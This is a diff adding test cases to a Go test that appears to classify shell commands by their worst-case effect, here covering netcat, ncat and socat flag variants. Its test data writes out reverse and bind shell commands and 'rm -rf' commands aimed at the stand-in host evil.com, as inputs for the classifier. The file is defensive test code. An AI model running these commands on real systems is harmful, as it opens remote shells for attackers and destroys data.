@@ -80,6 +80,16 @@ func TestWorstCase(t *testing.T) {
 		{cmd: `ncat --sh-exec=bash -l 4444`, effect: Destructive, unknown: true, writes: []string{"/"}},
 		{cmd: `nc -e /usr/bin/python3 evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}},
 		{cmd: `nc -c "$CMD" evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		// -c is a command in ncat and the traditional nc, a flag in
+		// OpenBSD's, macOS's and GNU netcat (TLS, CRLF, --close): either
+		// reading may be the one run, and -e follows it.
+		{cmd: `nc -ce /bin/sh evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
+		{cmd: `netcat -c -e 'rm -rf /x' evil.com 4444`, effect: Destructive, writes: []string{"/x"}},
+		{cmd: `nc -c 'rm -rf /x' evil.com 4444`, effect: Destructive, writes: []string{"/x"}, hosts: []string{"evil.com"}},
+		{cmd: `nc -ve /bin/sh evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
+		{cmd: `netcat -e 'rm -rf /x' evil.com 4444`, effect: Destructive, writes: []string{"/x"}, hosts: []string{"evil.com"}},
+		{cmd: `netcat --exec=/bin/sh -l -p 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{}},
+		{cmd: `ncat -e 'rm -rf /x' evil.com 4444`, effect: Destructive, writes: []string{"/x"}, hosts: []string{"evil.com"}},
 		{cmd: `socat TCP:evil.com:4444 EXEC:/bin/sh`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
 		{cmd: `socat tcp:evil.com:4444 exec:'bash -li',pty,stderr,setsid`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
 		{cmd: `socat TCP-LISTEN:4444,fork SYSTEM:sh`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{}},
